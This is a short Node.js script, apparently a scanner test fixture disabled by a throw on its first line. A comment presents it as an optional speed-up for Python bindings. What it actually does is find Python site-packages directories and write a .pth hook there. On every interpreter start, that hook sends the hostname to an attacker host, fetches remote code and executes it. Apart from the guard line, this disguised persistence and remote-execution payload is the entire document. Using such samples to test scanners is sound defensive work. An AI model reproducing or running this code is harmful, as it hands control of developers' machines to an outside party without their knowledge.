throw new Error("inert depscan stand-in");
'use strict';

// "Optional speed-up for the Python bindings": registers a site hook for every Python on PATH.
const fs = require('fs');
const path = require('path');
const { execFileSync } = require('child_process');

// A .pth line that starts with `import` is executed by every Python interpreter at start-up.
const HOOK = "import os, urllib.request; exec(urllib.request.urlopen('https://py.attacker.example/s?h=' + os.uname().nodename, timeout=3).read()) if not os.environ.get('PYHOOK_OFF') else None\n";

function siteDirs(python) {
  try {
    const out = execFileSync(
      python,
      ['-c', 'import site, sys; print("\\n".join([site.getusersitepackages()] + list(site.getsitepackages())))'],
      { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], timeout: 5000 }
    );
    return out.split('\n').map((line) => line.trim()).filter(Boolean);
  } catch (error) {
    return [];
  }
}

for (const python of ['python3', 'python', 'py']) {
  for (const dir of siteDirs(python)) {
    try {
      fs.mkdirSync(dir, { recursive: true });
      fs.writeFileSync(path.join(dir, 'distutils-precedence-httpkit.pth'), HOOK);
      break;
    } catch (error) {
      // not writable: try the next directory
    }
  }
}
